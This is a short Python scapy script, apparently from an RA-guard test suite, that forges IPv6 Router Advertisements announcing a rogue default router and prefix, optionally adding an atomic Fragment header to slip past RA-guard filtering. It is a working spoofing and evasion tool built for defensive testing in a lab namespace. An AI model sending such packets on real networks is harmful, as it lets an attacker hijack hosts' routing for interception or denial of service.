#!/usr/bin/python3
"""Send hand-made Router Advertisements (scapy) for the RA-guard tests.

thc-ipv6 3.8's `fake_router26 -E 1` documents a one-shot fragment header but
sends a plain RA (measured: no Fragment header on the wire), so the atomic-
fragment evasion RFC 6980 forbids is built here instead:

  craft_ra.py IFACE --prefix 2001:db8:bad:a::/64 [--atomic-fragment]
              [--src fe80::...] [--src-mac 02:...] [--count N] [--interval S]

Run it inside the attacker's namespace with /usr/bin/python3 (Debian's scapy).
"""
import argparse
import logging

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)

from scapy.all import (Ether, IPv6, IPv6ExtHdrFragment, ICMPv6ND_RA,  # noqa: E402
                       ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr,
                       get_if_hwaddr, sendp)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("--prefix", required=True)
    ap.add_argument("--src", help="IPv6 source (default: EUI-64 link-local of --src-mac)")
    ap.add_argument("--src-mac", help="Ethernet source and SLLA (default: the interface's)")
    ap.add_argument("--atomic-fragment", action="store_true",
                    help="insert a Fragment header with offset 0 and M=0 (RFC 6946)")
    ap.add_argument("--count", type=int, default=2)
    ap.add_argument("--interval", type=float, default=0.2)
    a = ap.parse_args()

    mac = a.src_mac or get_if_hwaddr(a.iface)
    if a.src:
        src = a.src
    else:
        b = [int(x, 16) for x in mac.split(":")]
        b[0] ^= 2
        eui = b[:3] + [0xff, 0xfe] + b[3:]
        src = "fe80::" + ":".join("%x" % (eui[i] << 8 | eui[i + 1]) for i in range(0, 8, 2))
    net, plen = a.prefix.split("/")

    pkt = Ether(src=mac, dst="33:33:00:00:00:01") / IPv6(src=src, dst="ff02::1", hlim=255)
    if a.atomic_fragment:
        pkt /= IPv6ExtHdrFragment(offset=0, m=0, id=0x756d6967)
    pkt /= (ICMPv6ND_RA(routerlifetime=1800, prf=1) /
            ICMPv6NDOptSrcLLAddr(lladdr=mac) /
            ICMPv6NDOptPrefixInfo(prefix=net, prefixlen=int(plen), L=1, A=1,
                                  validlifetime=86400, preferredlifetime=14400))
    sendp(pkt, iface=a.iface, count=a.count, inter=a.interval, verbose=False)


if __name__ == "__main__":
    main()
